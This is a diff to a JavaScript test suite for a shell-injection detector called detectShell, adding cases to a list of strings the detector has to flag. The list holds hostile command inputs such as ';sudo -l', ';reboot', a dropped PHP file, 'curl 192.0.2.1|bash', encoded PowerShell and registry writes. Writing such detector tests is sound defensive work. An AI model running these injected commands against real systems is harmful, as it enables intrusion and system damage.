@@ -35,6 +35,8 @@ describe('detectShell', () => {
     ';sudo -l',
     ';dig a.example',
     ';reboot',
+    ';echo a > b.php',
+    ';unzip a.zip',
     'curl 192.0.2.1|bash',
     '|for /f "delims=" %i in (\'whoami\') do echo %i',
     ';who$()ami',
@@ -72,6 +74,9 @@ describe('detectShell', () => {
     'cmd /c whoami',
     'powershell -enc SQBFAFgA',
     'dir c:\\',
+    'ipconfig /all',
+    'ls -laR /etc',
+    'reg add "HKLM\\a" /v b',
   ])('finds a whole command line: %s', (text) => {
     expect(words(text)).toContain('command-line');
   });
